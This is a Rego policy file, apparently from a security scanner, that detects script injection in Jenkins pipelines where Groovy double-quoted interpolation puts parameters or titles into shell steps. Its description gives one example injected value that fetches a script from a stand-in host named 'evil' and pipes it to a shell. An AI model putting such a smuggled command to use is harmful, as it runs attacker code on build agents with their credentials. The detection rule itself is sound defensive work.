# SPDX-License-Identifier: Apache-2.0

# METADATA
# title: Jenkins steps take what others wrote from the shell's variables, not from Groovy's
# description: In a double-quoted string Groovy puts the value into the script before the shell reads it. A parameter or a title such as a";curl evil|sh;" then runs on the agent, with the build's credentials.
# related_resources:
# - ref: https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation
#   description: Jenkins, string interpolation, injection
# - ref: https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution
#   description: OWASP CI/CD risks, CICD-SEC-4
# - ref: https://cwe.mitre.org/data/definitions/78.html
#   description: CWE-78, OS command injection
# custom:
#   id: pipeline.jenkins-script-injection
#   severity: high
#   remediation: "Write the script in single quotes and use the variable of the shell, quoted: sh 'git checkout \"$BRANCH\"'. Parameters are variables of the environment too; set others with withEnv."
#   zeroTrust: [Z1, Z2, Z4]
#   kinds: [jenkins]
package sealock.config.pipeline.jenkins_script_injection

import data.sealock.lib.config_jenkins as jenkins

finding contains f if {
	some e in jenkins.expressions("steps")
	hit := jenkins.worst(e.item, e.reads)
	f := {
		"item": e.item.id, "path": e.path, "severity": severity[hit.by],
		"message": sprintf("%s, which %s can write, becomes part of the script", [jenkins.shown(e, hit), jenkins.who[hit.by]]),
		"found": sprintf("${%s}", [substring(e.name, 0, 100)]), "expected": "a variable of the shell, in a script between single quotes",
	}
}

severity := {"anybody": "high", "callers": "high", "members": "low"}
